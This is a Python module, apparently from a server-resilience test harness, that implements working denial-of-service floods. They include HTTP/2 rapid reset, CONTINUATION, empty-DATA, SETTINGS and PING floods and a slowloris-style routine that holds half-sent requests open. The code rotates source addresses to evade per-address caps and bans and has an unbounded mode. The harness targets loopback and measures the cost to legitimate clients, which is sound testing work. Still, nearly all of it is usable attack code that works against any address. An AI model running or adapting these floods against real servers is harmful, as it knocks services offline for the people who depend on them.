"""Floods: processes that only run where a processor would idle, so that what they cost is the server's work on them."""

import errno
import itertools
import multiprocessing
import os
import selectors
import socket
import time
from typing import Iterator

from hostilelib import wire
from hostilelib.targets import Target

PROCESSES = 2
CONNECTIONS = 8
# How strong a flood is, all processes together: about 140,000 reset requests or 470,000 empty frames a second, and new
# connections. Without a bound it is as strong as the processors happen to be free, and a server that only reads and forgets
# makes the good client wait six to twelve times as long (the column `sink`).
FRAME_BYTES, NEW_CONNECTIONS = 8 << 20, 1_000
UNBOUNDED = False
LONG = 1_000_000_000
# A flood of frames comes from these, none of which the service trusts. On loopback a connection is made
# at once or not at all: the server bars its address, so the next one is tried.
SOURCES = [f"127.0.0.{last}" for last in range(2, 21)]
CONNECT_SECONDS = 0.1


def rapid_reset(target: Target) -> tuple[bytes, bytes]:
    head = wire.block("GET", target.get, target.token)
    flags = wire.END_STREAM | wire.END_HEADERS
    cancel = (8).to_bytes(4, "big")
    ids = range(1, 20_001, 2)
    pairs = (wire.frame(wire.HEADERS, flags, i, head) + wire.frame(wire.RST_STREAM, 0, i, cancel) for i in ids)
    return b"".join(pairs), b""


def continuation(target: Target) -> tuple[bytes, bytes]:
    opening = wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.block("GET", target.get, target.token))
    return opening, wire.frame(wire.CONTINUATION, 0, 1, wire.literal("x-a", "b")) * 2_000


def empty_data(target: Target) -> tuple[bytes, bytes]:
    opening = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.block("POST", target.stream, target.token))
    return opening, wire.frame(wire.DATA, 0, 1) * 4_000


def settings(target: Target) -> tuple[bytes, bytes]:
    return b"", wire.frame(wire.SETTINGS, 0, 0) * 4_000


def ping(target: Target) -> tuple[bytes, bytes]:
    return b"", wire.frame(wire.PING, 0, 0, b"hostile!") * 2_000


# What comes after the preface once, and then again and again; nothing again means a new connection.
H2 = {"rapid reset": rapid_reset, "CONTINUATION": continuation, "empty DATA": empty_data, "SETTINGS": settings, "PING": ping}


class Flood:
    """Processes that flood until they are ended."""

    def __init__(self, kind: str, address: tuple[str, int], target: Target) -> None:
        self.sent = multiprocessing.Value("Q", 0)
        self.opened = multiprocessing.Value("Q", 0)
        if kind == "connections":
            work = lambda number: _connections(address, target.cap, number, self)  # noqa: E731
        else:
            opening, again = H2[kind](target)
            work = lambda number: _frames(address, wire.HELLO + opening, again, number, self)  # noqa: E731
        self.processes = [multiprocessing.Process(target=_idly, args=(work, n), daemon=True) for n in range(PROCESSES)]
        for process in self.processes:
            process.start()

    def end(self) -> None:
        for process in self.processes:
            process.kill()
        for process in self.processes:
            process.join()

    def count(self, sent: int, opened: int) -> None:
        with self.sent.get_lock():
            self.sent.value += sent
        with self.opened.get_lock():
            self.opened.value += opened


class Pace:
    """So much a second, of one process; waits when more was done."""

    def __init__(self, total: float) -> None:
        self.rate, self.began, self.done = total / PROCESSES, time.monotonic(), 0

    def spend(self, count: int) -> None:
        self.done += count
        ahead = self.done / self.rate - (time.monotonic() - self.began)
        if ahead > 0 and not UNBOUNDED:
            time.sleep(ahead)


def _idly(work, number: int) -> None:
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    work(number)


def _connections(address: tuple[str, int], cap: int, number: int, flood: Flood) -> None:
    """Opens connections with half a header each, up to its part of more than the cap, and keeps them open."""
    held, most, pace = [], cap // PROCESSES + cap // 10, Pace(NEW_CONNECTIONS)
    # As many addresses as fill the server although each has its own cap.
    sources = itertools.cycle(f"127.0.{number + 1}.{last}" for last in range(1, 65))
    while True:
        try:
            peer = socket.create_connection(address, 1, (next(sources), 0))
            peer.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n")
            flood.count(25, 1)
            held.append(peer)
            pace.spend(1)
        except OSError:
            time.sleep(0.001)
        if len(held) > most:
            held.pop(0).close()


class Peer:
    """A connection that is being made, or floods."""

    def __init__(self, address: tuple[str, int], source: str, stream: Iterator[bytes]) -> None:
        self.stream, self.rest = stream, memoryview(next(stream))
        self.made, self.began = False, time.monotonic()
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.bind((source, 0))
        if (wrong := self.socket.connect_ex(address)) not in (0, errno.EINPROGRESS):
            self.socket.close()
            raise OSError(wrong, os.strerror(wrong))

    def is_barred(self) -> bool:
        return not self.made and time.monotonic() > self.began + CONNECT_SECONDS

    def act(self, events: int, flood: Flood, pace: Pace) -> None:
        """Does what can be done now; raises an `OSError` at the end."""
        if not self.made:
            if wrong := self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                raise OSError(wrong, os.strerror(wrong))
            self.made = True
            flood.count(0, 1)
        if events & selectors.EVENT_READ and not self.socket.recv(1 << 16):
            raise ConnectionError("closed")
        if events & selectors.EVENT_WRITE:
            self.send(flood, pace)

    def send(self, flood: Flood, pace: Pace) -> None:
        count = self.socket.send(self.rest[: 1 << 14])
        flood.count(count, 0)
        pace.spend(count)
        self.rest = self.rest[count:]
        if not self.rest:
            following = next(self.stream, None)
            if following is None:
                raise ConnectionError("all was sent")
            self.rest = memoryview(following)


def _frames(address: tuple[str, int], opening: bytes, again: bytes, number: int, flood: Flood) -> None:
    """Keeps connections that send as fast as they are read, reads what comes, and replaces those that end."""
    chooser, peers, pace = selectors.DefaultSelector(), set(), Pace(FRAME_BYTES)
    sources = itertools.islice(itertools.cycle(SOURCES), number * len(SOURCES) // PROCESSES, None)

    def end(peer: Peer) -> None:
        chooser.unregister(peer.socket)
        peer.socket.close()
        peers.discard(peer)

    while True:
        for peer in [peer for peer in peers if peer.is_barred()]:
            end(peer)
        while len(peers) < CONNECTIONS:
            try:
                peer = Peer(address, next(sources), _stream(opening, again))
            except OSError:
                time.sleep(0.01)
                break
            peers.add(peer)
            chooser.register(peer.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, peer)
        for key, events in chooser.select(CONNECT_SECONDS):
            try:
                key.data.act(events, flood, pace)
            except BlockingIOError:
                continue
            except OSError:
                end(key.data)


def _stream(opening: bytes, again: bytes) -> Iterator[bytes]:
    yield opening
    yield from itertools.repeat(again) if again else ()


def sink() -> tuple[socket.socket, multiprocessing.Process]:
    """A server that reads and forgets, at the priority of a real one: what a flood costs that nobody works on."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
    process = multiprocessing.Process(target=_swallow, args=(listener,), daemon=True)
    process.start()
    return listener, process


def _swallow(listener: socket.socket) -> None:
    chooser = selectors.DefaultSelector()
    chooser.register(listener, selectors.EVENT_READ)
    while True:
        for key, _ in chooser.select():
            if key.fileobj is listener:
                chooser.register(listener.accept()[0], selectors.EVENT_READ)
                continue
            try:
                if key.fileobj.recv(1 << 16):
                    continue
            except OSError:
                pass
            chooser.unregister(key.fileobj)
            key.fileobj.close()
